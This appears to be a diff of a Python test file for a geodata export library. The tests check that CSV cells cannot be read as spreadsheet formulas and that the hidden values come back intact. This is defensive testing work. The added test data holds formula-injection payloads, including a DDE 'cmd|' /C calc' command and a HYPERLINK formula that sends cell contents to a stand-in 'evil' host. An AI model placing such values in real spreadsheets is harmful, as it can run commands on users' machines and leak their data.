@@ -1,6 +1,7 @@
 import csv
+import io
 import json
-import stat
+import re
 import tempfile
 from dataclasses import replace
 from pathlib import Path
@@ -10,10 +11,39 @@ import pandas as pd
 import pytest
 import shapely
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from geo import COLUMNS, FileError, FrameError, Frames, export, frame, write_beside
+from geo import COLUMNS, FileError, FrameError, Frames, export, frame
+from geo.export.cells import hide_formula, is_formula, show_formula
 
 from .dossiers import Handful, dossiers, small_dossier
+
+# What a program skips before it takes a cell for a formula; the apostrophe is what makes it text.
+INVISIBLE = '\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad\u00a0\u3000"\x00\x01\x1f '
+FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠﹦﹢﹣﹫]")
+FORMULAS = [
+    f"{before}{sign}{what}"
+    for sign in "=+-@＝＋－＠﹦﹢﹣﹫"
+    for before in (
+        "",
+        " ",
+        "\t",
+        "\r",
+        "\n",
+        "\r\n",
+        "'",
+        '"',
+        "\u200b",
+        "\ufeff",
+        "\u202e",
+        "\u2066",
+        "\u00a0",
+        "x;",
+        "x\t",
+        "x\n",
+    )
+    for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil/?"&A1,"ok")', "SUM(A1:A9)*2;")
+]
 
 SUFFIXES = [".gpkg", ".geojson", ".csv"]
 
@@ -129,18 +159,27 @@ def test_geopackage_layers_of_places_can_be_drawn_by_incident(tmp_path, frames):
     assert set(layer.geom_type) == {"MultiPolygon"}
 
 
-def test_no_cell_of_a_sheet_begins_like_a_formula(tmp_path, frames):
-    hostile = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "＝1"]
+def test_no_cell_of_a_sheet_becomes_a_formula_and_all_come_back(tmp_path):
     rows = [
         {"what": "claim", "ref": f"c{number}", "why": "aggregate", "text": text, "article_id": ""}
-        for number, text in enumerate(hostile)
+        for number, text in enumerate(FORMULAS)
     ]
     made = Frames.from_rows("durand", {"unplaced": rows})
     export.write(made, tmp_path / "out.csv")
-    with (tmp_path / "out.unplaced.csv").open(encoding="utf-8-sig", newline="") as file:
-        cells = [cell for row in csv.reader(file) for cell in row]
-    assert not [cell for cell in cells if cell[:1] and cell[0] in "=+-@\t\r\n＝＋－＠"]
-    assert export.read_frames(tmp_path / "out.csv").unplaced["text"].tolist() == hostile
+    data = (tmp_path / "out.unplaced.csv").read_text("utf-8-sig")
+    # By the comma, and as a spreadsheet would that takes the semicolon, the tab or the bar for it.
+    for separator in ",;\t|":
+        for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator):
+            assert not [cell for cell in row if FORMULA.match(cell.strip(INVISIBLE).strip())]
+    assert export.read_frames(tmp_path / "out.csv").unplaced["text"].tolist() == FORMULAS
+
+
+@given(text=st.text(st.sampled_from("=＝+-@'\"\t\r\n ;|\u200b\u202ea"), max_size=8) | st.text())
+def test_whatever_is_hidden_in_a_cell_is_shown_again(text):
+    hidden = hide_formula(text)
+    assert show_formula(hidden) == text
+    assert not is_formula(text) or hidden != text
+    assert not FORMULA.match(hidden.strip(INVISIBLE).strip())
 
 
 def test_the_sheet_of_places_has_coordinates_only_for_points_and_no_toll(tmp_path, frames):
@@ -212,36 +251,3 @@ def test_a_table_that_is_missing_beside_a_sheet_is_named(tmp_path, frames):
     (tmp_path / "out.claims.csv").unlink()
     with pytest.raises(FileError, match=r"out.claims.csv: no such file; .* keep them together"):
         export.read_frames(tmp_path / "out.csv")
-
-
-def test_a_failure_while_writing_leaves_the_old_file_and_nothing_else(tmp_path):
-    wanted = tmp_path / "map.html"
-    wanted.write_text("old")
-    with pytest.raises(ZeroDivisionError), write_beside(wanted) as draft:
-        draft.write_text(str(1 / draft.stat().st_size))
-    assert [path.name for path in tmp_path.iterdir()] == ["map.html"]
-    assert wanted.read_text() == "old"
-
-
-def test_a_written_file_keeps_its_permissions_and_a_link_stays_a_link(tmp_path):
-    target, link = tmp_path / "target.html", tmp_path / "link.html"
-    target.write_text("old")
-    target.chmod(0o640)
-    link.symlink_to(target)
-    with write_beside(link) as draft:
-        draft.write_text("new")
-    assert link.is_symlink()
-    assert (target.read_text(), stat.S_IMODE(target.stat().st_mode)) == ("new", 0o640)
-
-
-@pytest.mark.parametrize("name", ["a\0b.html", "x" * 300 + ".html", "/dev/null"])
-def test_names_that_no_file_can_have_are_refused(tmp_path, name):
-    with pytest.raises(FileError), write_beside(tmp_path / name):
-        raise AssertionError("nothing to write to")
-
-
-def test_links_in_a_circle_are_refused(tmp_path):
-    (tmp_path / "a.html").symlink_to(tmp_path / "b.html")
-    (tmp_path / "b.html").symlink_to(tmp_path / "a.html")
-    with pytest.raises(FileError), write_beside(tmp_path / "a.html"):
-        raise AssertionError("nothing to write to")
